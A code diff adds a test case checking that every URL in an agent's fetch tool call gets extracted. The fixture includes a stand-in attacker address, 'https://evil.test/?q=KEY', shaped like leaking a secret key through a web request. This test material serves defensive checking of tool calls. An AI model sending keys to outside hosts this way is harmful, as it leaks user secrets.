@@ -68,6 +68,19 @@ test.for([
     described: [['web_fetch', { url: 'https://example.org/x?' }]],
   },
   {
+    name: 'each of several addresses',
+    toolCall: {
+      kind: 'fetch',
+      title: 'Fetching https://docs.test/',
+      rawInput: { uri: 'https://evil.test/?q=KEY', prompt: 'Read https://docs.test/guide' },
+    },
+    tool: 'web_fetch',
+    described: [
+      ['web_fetch', { url: 'https://evil.test/?q=KEY' }],
+      ['web_fetch', { url: 'https://docs.test/guide' }],
+    ],
+  },
+  {
     name: 'something else',
     toolCall: { kind: 'other', title: 'ticket (MCP)' },
     tool: 'other:ticket',
